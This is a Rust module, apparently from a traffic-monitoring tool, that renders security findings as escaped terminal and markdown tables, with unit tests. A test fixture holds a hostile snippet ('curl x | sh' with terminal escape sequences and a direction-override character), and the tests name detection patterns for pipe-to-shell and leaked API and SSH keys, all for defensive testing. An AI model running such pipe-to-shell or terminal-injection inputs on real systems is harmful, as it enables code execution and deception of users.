//! Human-readable views of findings: an aligned terminal table and a markdown summary.
//!
//! Every total here sums the `count` field, so a deduplicated line that
//! stands for 40 occurrences counts 40, not 1.
//!
//! Text from findings is treated as hostile even though snippets are already
//! redacted: `dest` comes from a Host header and a snippet from traffic.
//! Control characters and bidirectional-override characters are printed as
//! Rust-style escapes (`\u{1b}`, `\n`), so a finding cannot move the cursor,
//! clear the screen or reorder what the reader sees. Markdown cells also
//! escape `\`, `|` and backticks (table and code structure), `[` and `]`
//! (links), and `<`, `>` and `&` (raw HTML).

use std::cmp::Reverse;
use std::collections::{BTreeMap, HashMap};
use std::fmt::Write as _;

use crate::finding::{Finding, Severity, ThreatType};
use crate::timestamp::Timestamp;

/// The widest a snippet may print in the terminal table, in characters.
const SNIPPET_WIDTH: usize = 60;
/// The widest a destination may print in the terminal table.
const DEST_WIDTH: usize = 40;
/// The widest a pattern or runtime may print in the terminal table.
const NAME_WIDTH: usize = 24;
/// How many rows the "top" sections of the markdown summary show.
const TOP: usize = 10;
/// Findings spanning at most this long get an hourly timeline; longer
/// spans get a daily one.
const HOURLY_SPAN_MILLIS: i64 = 48 * HOUR_MILLIS;
const HOUR_MILLIS: i64 = 3_600_000;
const DAY_MILLIS: i64 = 24 * HOUR_MILLIS;

/// Formats findings as an aligned plain-text table, in the order given,
/// followed by a line with the totals.
///
/// Columns: time, severity, type, pattern, runtime, direction, dest, count
/// and snippet. Long values are cut with `…`; control characters are
/// escaped.
pub fn format_table(findings: &[Finding]) -> String {
    if findings.is_empty() {
        return "No findings.\n".to_owned();
    }
    let header = [
        "TIME",
        "SEVERITY",
        "TYPE",
        "PATTERN",
        "RUNTIME",
        "DIRECTION",
        "DEST",
        "COUNT",
        "SNIPPET",
    ];
    let rows: Vec<[String; 9]> = findings
        .iter()
        .map(|f| {
            [
                f.timestamp.to_string(),
                f.severity.as_str().to_owned(),
                f.threat_type.as_str().to_owned(),
                cell(f.pattern.as_str(), NAME_WIDTH),
                cell(f.runtime.as_deref().unwrap_or("-"), NAME_WIDTH),
                f.direction.as_str().to_owned(),
                cell(&f.dest, DEST_WIDTH),
                f.count.to_string(),
                cell(&f.snippet, SNIPPET_WIDTH),
            ]
        })
        .collect();

    let mut widths = header.map(|h| h.chars().count());
    for row in &rows {
        for (width, value) in widths.iter_mut().zip(row) {
            *width = (*width).max(value.chars().count());
        }
    }

    let mut out = String::new();
    let header = header.map(str::to_owned);
    for row in std::iter::once(&header).chain(&rows) {
        let mut line = String::new();
        for (i, (value, width)) in row.iter().zip(widths).enumerate() {
            if i > 0 {
                line.push_str("  ");
            }
            let pad = width.saturating_sub(value.chars().count());
            // The count column is right-aligned; the rest are left-aligned.
            if i == 7 {
                line.extend(std::iter::repeat_n(' ', pad));
                line.push_str(value);
            } else {
                line.push_str(value);
                line.extend(std::iter::repeat_n(' ', pad));
            }
        }
        out.push_str(line.trim_end());
        out.push('\n');
    }
    let total = occurrences(findings);
    let _ = writeln!(
        out,
        "{} {}, {total} {}",
        findings.len(),
        plural(findings.len() as u64, "line", "lines"),
        plural(total, "occurrence", "occurrences"),
    );
    out
}

/// Formats a markdown summary of `findings` under the heading `title`.
///
/// Sections: totals by severity and by threat type; the top patterns,
/// destinations and runtimes; a timeline in hourly buckets when the
/// findings span at most 48 hours, daily buckets otherwise (only buckets
/// with findings are listed); and the most severe findings, most recent
/// first among equals.
pub fn format_markdown(findings: &[Finding], title: &str) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "# {}\n", md(title));
    let (Some(first), Some(last)) = (
        findings.iter().map(|f| f.timestamp).min(),
        findings.iter().map(|f| f.timestamp).max(),
    ) else {
        out.push_str("No findings.\n");
        return out;
    };
    let total = occurrences(findings);
    let _ = writeln!(
        out,
        "{total} {} in {} {}, from {first} to {last}.\n",
        plural(total, "occurrence", "occurrences"),
        findings.len(),
        plural(findings.len() as u64, "line", "lines"),
    );

    out.push_str("## By severity\n\n");
    let rows = Severity::ALL.iter().rev().map(|severity| {
        let n = sum(findings.iter().filter(|f| f.severity == *severity));
        vec![severity.as_str().to_owned(), n.to_string()]
    });
    table(&mut out, &["Severity", "Count"], &[false, true], rows);

    out.push_str("## By threat type\n\n");
    let rows = [ThreatType::Exfil, ThreatType::Injection].map(|threat| {
        let n = sum(findings.iter().filter(|f| f.threat_type == threat));
        vec![threat.as_str().to_owned(), n.to_string()]
    });
    table(&mut out, &["Threat type", "Count"], &[false, true], rows);

    top_section(&mut out, "Top patterns", "Pattern", findings, |f| {
        f.pattern.as_str()
    });
    top_section(&mut out, "Top destinations", "Destination", findings, |f| {
        &f.dest
    });
    top_section(&mut out, "Top runtimes", "Runtime", findings, |f| {
        f.runtime.as_deref().unwrap_or("(none)")
    });

    let hourly = last.unix_millis() - first.unix_millis() <= HOURLY_SPAN_MILLIS;
    let (bucket_millis, heading, column) = if hourly {
        (HOUR_MILLIS, "## Timeline (per hour, UTC)\n\n", "Hour")
    } else {
        (DAY_MILLIS, "## Timeline (per day, UTC)\n\n", "Day")
    };
    let mut buckets: BTreeMap<i64, u64> = BTreeMap::new();
    for f in findings {
        let bucket = f.timestamp.unix_millis().div_euclid(bucket_millis);
        let n = buckets.entry(bucket).or_default();
        *n = n.saturating_add(f.count);
    }
    out.push_str(heading);
    let rows = buckets.into_iter().map(|(bucket, n)| {
        let start = Timestamp::from_unix_millis(bucket.saturating_mul(bucket_millis));
        vec![bucket_label(start, hourly), n.to_string()]
    });
    table(&mut out, &[column, "Count"], &[false, true], rows);

    let mut severe: Vec<&Finding> = findings.iter().collect();
    severe.sort_by_key(|f| Reverse((f.severity, f.timestamp)));
    out.push_str("## Most severe recent findings\n\n");
    let rows = severe.into_iter().take(TOP).map(|f| {
        vec![
            f.timestamp.to_string(),
            f.severity.as_str().to_owned(),
            f.threat_type.as_str().to_owned(),
            md(f.pattern.as_str()),
            md(f.runtime.as_deref().unwrap_or("-")),
            f.direction.as_str().to_owned(),
            md(&f.dest),
            f.count.to_string(),
            md(&truncate(&f.snippet, SNIPPET_WIDTH * 2)),
        ]
    });
    table(
        &mut out,
        &[
            "Time",
            "Severity",
            "Type",
            "Pattern",
            "Runtime",
            "Direction",
            "Dest",
            "Count",
            "Snippet",
        ],
        &[false, false, false, false, false, false, false, true, false],
        rows,
    );
    // Every table ends with a blank line; the document ends with one newline.
    out.truncate(out.trim_end().len());
    out.push('\n');
    out
}

/// Writes one "top N" section: the values of `key` with the largest summed
/// counts, ties by name, and one row for the rest so the column still adds
/// up to the total.
fn top_section<'a>(
    out: &mut String,
    heading: &str,
    column: &str,
    findings: &'a [Finding],
    key: impl Fn(&'a Finding) -> &'a str,
) {
    let mut totals: HashMap<&str, u64> = HashMap::new();
    for f in findings {
        let n = totals.entry(key(f)).or_default();
        *n = n.saturating_add(f.count);
    }
    let mut ranked: Vec<(&str, u64)> = totals.into_iter().collect();
    ranked.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(b.0)));
    let rest = ranked.split_off(ranked.len().min(TOP));

    let _ = writeln!(out, "## {heading}\n");
    let mut rows: Vec<Vec<String>> = ranked
        .into_iter()
        .map(|(name, n)| vec![md(name), n.to_string()])
        .collect();
    if !rest.is_empty() {
        let n = rest.iter().fold(0u64, |acc, (_, n)| acc.saturating_add(*n));
        rows.push(vec![format!("({} others)", rest.len()), n.to_string()]);
    }
    table(out, &[column, "Count"], &[false, true], rows);
}

/// Writes a markdown table. Cells must already be escaped.
fn table(
    out: &mut String,
    header: &[&str],
    right_aligned: &[bool],
    rows: impl IntoIterator<Item = Vec<String>>,
) {
    let _ = writeln!(out, "| {} |", header.join(" | "));
    let rule: Vec<&str> = right_aligned
        .iter()
        .map(|right| if *right { "---:" } else { "---" })
        .collect();
    let _ = writeln!(out, "|{}|", rule.join("|"));
    for row in rows {
        let _ = writeln!(out, "| {} |", row.join(" | "));
    }
    out.push('\n');
}

/// `2026-11-29 12:00` for an hourly bucket, `2026-11-29` for a daily one.
fn bucket_label(start: Timestamp, hourly: bool) -> String {
    let text = start.to_string();
    let day = text.get(..10).unwrap_or(&text);
    match (hourly, text.get(11..16)) {
        (true, Some(time)) => format!("{day} {time}"),
        _ => day.to_owned(),
    }
}

/// The total number of occurrences: the sum of `count`.
fn occurrences(findings: &[Finding]) -> u64 {
    sum(findings.iter())
}

fn sum<'a>(findings: impl Iterator<Item = &'a Finding>) -> u64 {
    findings.fold(0u64, |acc, f| acc.saturating_add(f.count))
}

fn plural(n: u64, one: &'static str, many: &'static str) -> &'static str {
    if n == 1 { one } else { many }
}

/// A terminal table cell: escaped, then cut to `width` characters.
fn cell(text: &str, width: usize) -> String {
    truncate(&escape_terminal(text), width)
}

/// Cuts `text` to at most `width` characters, ending with `…` if cut.
fn truncate(text: &str, width: usize) -> String {
    if text.chars().count() <= width {
        return text.to_owned();
    }
    let mut cut: String = text.chars().take(width.saturating_sub(1)).collect();
    cut.push('…');
    cut
}

/// Whether printing `c` raw could drive a terminal or reorder text:
/// control characters, and the invisible format characters that change
/// direction or hide text.
fn is_unsafe(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{061C}'
                | '\u{200B}'..='\u{200F}'
                | '\u{2028}'..='\u{202E}'
                | '\u{2060}'..='\u{2069}'
                | '\u{FEFF}'
        )
}

/// Escapes the characters that [`is_unsafe`] rejects, as `\u{…}`, `\n`,
/// `\t` and the like.
fn escape_terminal(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if is_unsafe(c) {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out
}

/// Escapes text for a markdown table cell or heading: unsafe characters as
/// in the terminal table, plus the characters that would end a cell, open
/// code or a link, or start raw HTML.
fn md(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\\' | '|' | '`' | '[' | ']' => {
                out.push('\\');
                out.push(c);
            }
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '&' => out.push_str("&amp;"),
            c if is_unsafe(c) => out.extend(c.escape_default()),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::finding::{Direction, Protocol, RuleId};

    const T0: i64 = 1_764_417_600_000; // 2025-11-29T12:00:00.000Z

    fn finding(pattern: &str, severity: Severity, millis: i64, count: u64) -> Finding {
        let threat_type = if pattern.ends_with("shell") {
            ThreatType::Injection
        } else {
            ThreatType::Exfil
        };
        Finding {
            protocol: Protocol::Https,
            threat_type,
            pattern: RuleId::new(pattern),
            severity,
            source: "172.17.0.2:40000".into(),
            dest: "api.example.com:443".into(),
            snippet: "Authorization: Bearer sk-ant-****".into(),
            timestamp: Timestamp::from_unix_millis(millis),
            runtime: Some("main".into()),
            count,
            ..crate::finding::sample()
        }
    }

    fn sample() -> Vec<Finding> {
        let mut hostile = finding("pipe_to_shell", Severity::High, T0 + 2 * HOUR_MILLIS, 1);
        hostile.snippet = "curl x | sh \u{1b}[2J\u{1b}]0;pwned\u{7}\r\n`rm` <b>&\u{202E}".into();
        hostile.dest = "evil|host:80".into();
        hostile.runtime = None;
        hostile.direction = Direction::Inbound;
        vec![
            finding("ai_api_key", Severity::Critical, T0, 40),
            finding("ai_api_key", Severity::Critical, T0 + 60_000, 2),
            finding("ssh_key_path", Severity::Medium, T0 + HOUR_MILLIS, 1),
            hostile,
        ]
    }

    /// Checks that `text` contains each of `expected`, in order.
    #[track_caller]
    fn check(text: &str, expected: &[&str]) {
        let mut rest = text;
        for want in expected {
            match rest.find(want) {
                Some(at) => rest = &rest[at + want.len()..],
                None => panic!("missing {want:?} (in order) in:\n{text}"),
            }
        }
    }

    #[track_caller]
    fn assert_no_raw_controls(text: &str) {
        for c in text.chars() {
            assert!(c == '\n' || !is_unsafe(c), "raw {c:?} in:\n{text}");
        }
    }

    #[test]
    fn table_is_aligned_and_totals_counts() {
        let text = format_table(&sample());
        assert_no_raw_controls(&text);
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 6, "{text}");
        check(
            lines[0],
            &[
                "TIME",
                "SEVERITY",
                "TYPE",
                "PATTERN",
                "RUNTIME",
                "DIRECTION",
                "DEST",
                "COUNT",
                "SNIPPET",
            ],
        );
        check(
            lines[1],
            &[
                "2025-11-29T12:00:00.000Z",
                "critical",
                "EXFIL",
                "ai_api_key",
                "main",
                "outbound",
                "api.example.com:443",
                "40",
                "sk-ant-****",
            ],
        );
        check(
            lines[4],
            &["INJECTION", "pipe_to_shell", "-", "inbound", "evil|host:80"],
        );
        // Columns line up: each column starts at the same character offset.
        let col = |line: &str, word: &str| line.find(word).map(|at| line[..at].chars().count());
        assert_eq!(col(lines[0], "SEVERITY"), col(lines[1], "critical"));
        assert_eq!(col(lines[0], "DEST"), col(lines[4], "evil"));
        let count_end = |line: &str, word: &str| {
            line.find(word)
                .map(|at| line[..at + word.len()].chars().count())
        };
        assert_eq!(count_end(lines[0], "COUNT"), count_end(lines[1], "40"));
        assert_eq!(lines[5], "4 lines, 44 occurrences");
    }

    #[test]
    fn table_escapes_hostile_snippets_and_cuts_long_ones() {
        let text = format_table(&sample());
        // Escaped, then cut to the snippet width.
        check(
            &text,
            &[r"  curl x | sh \u{1b}[2J\u{1b}]0;pwned\u{7}\r\n`rm` <b>&\u{202…"],
        );

        let mut long = finding("ai_api_key", Severity::Low, T0, 1);
        long.snippet = "y".repeat(500);
        let text = format_table(&[long]);
        let row = text.lines().nth(1).unwrap();
        assert!(
            row.ends_with(&format!("{}…", "y".repeat(SNIPPET_WIDTH - 1))),
            "{row}"
        );
        assert_eq!(text.lines().last(), Some("1 line, 1 occurrence"));
        assert_eq!(format_table(&[]), "No findings.\n");
    }

    #[test]
    fn markdown_sums_counts_in_every_section() {
        let text = format_markdown(&sample(), "Findings for `main` | today");
        assert_no_raw_controls(&text);
        check(
            &text,
            &[
                "# Findings for \\`main\\` \\| today\n",
                "44 occurrences in 4 lines, from 2025-11-29T12:00:00.000Z to 2025-11-29T14:00:00.000Z.",
                "## By severity",
                "| Severity | Count |\n|---|---:|\n",
                "| critical | 42 |\n| high | 1 |\n| medium | 1 |\n| low | 0 |\n",
                "## By threat type",
                "| EXFIL | 43 |\n| INJECTION | 1 |\n",
                "## Top patterns",
                "| ai_api_key | 42 |\n| pipe_to_shell | 1 |\n| ssh_key_path | 1 |\n",
                "## Top destinations",
                "| api.example.com:443 | 43 |\n| evil\\|host:80 | 1 |\n",
                "## Top runtimes",
                "| main | 43 |\n| (none) | 1 |\n",
                "## Timeline (per hour, UTC)",
                "| Hour | Count |",
                "| 2025-11-29 12:00 | 42 |\n| 2025-11-29 13:00 | 1 |\n| 2025-11-29 14:00 | 1 |\n",
                "## Most severe recent findings",
                "| 2025-11-29T12:01:00.000Z | critical | EXFIL | ai_api_key | main | outbound | api.example.com:443 | 2 |",
                "| 2025-11-29T12:00:00.000Z | critical |",
                "| 2025-11-29T14:00:00.000Z | high | INJECTION | pipe_to_shell | - | inbound | evil\\|host:80 | 1 | \
             curl x \\| sh \\u{1b}\\[2J\\u{1b}\\]0;pwned\\u{7}\\r\\n\\`rm\\` &lt;b&gt;&amp;\\u{202e} |",
                "| medium |",
            ],
        );
    }

    #[test]
    fn markdown_table_rows_keep_their_shape() {
        let text = format_markdown(&sample(), "t");
        // Every table row has as many unescaped `|` as its header.
        let mut expected = None;
        for line in text.lines() {
            if !line.starts_with('|') {
                expected = None;
                continue;
            }
            let bars = line
                .char_indices()
                .filter(|(at, c)| *c == '|' && !line[..*at].ends_with('\\'))
                .count();
            assert_eq!(*expected.get_or_insert(bars), bars, "{line}");
        }
    }

    #[test]
    fn markdown_picks_daily_buckets_for_long_spans_and_lists_the_rest() {
        let mut findings: Vec<Finding> = (0..12)
            .map(|i| {
                let mut f = finding(&format!("rule_{i:02}"), Severity::Low, T0, 1);
                f.timestamp = Timestamp::from_unix_millis(T0 + i * DAY_MILLIS / 4);
                f
            })
            .collect();
        findings[0].count = 5;
        let text = format_markdown(&findings, "week");
        check(
            &text,
            &[
                "16 occurrences in 12 lines",
                "| rule_00 | 5 |\n| rule_01 | 1 |",
                "| rule_09 | 1 |\n| (2 others) | 2 |\n",
                "## Timeline (per day, UTC)",
                "| Day | Count |",
                "| 2025-11-29 | 6 |\n| 2025-11-30 | 4 |\n| 2025-12-01 | 4 |\n| 2025-12-02 | 2 |\n",
            ],
        );
    }

    #[test]
    fn markdown_of_nothing_says_so() {
        assert_eq!(format_markdown(&[], "Empty"), "# Empty\n\nNo findings.\n");
    }
}
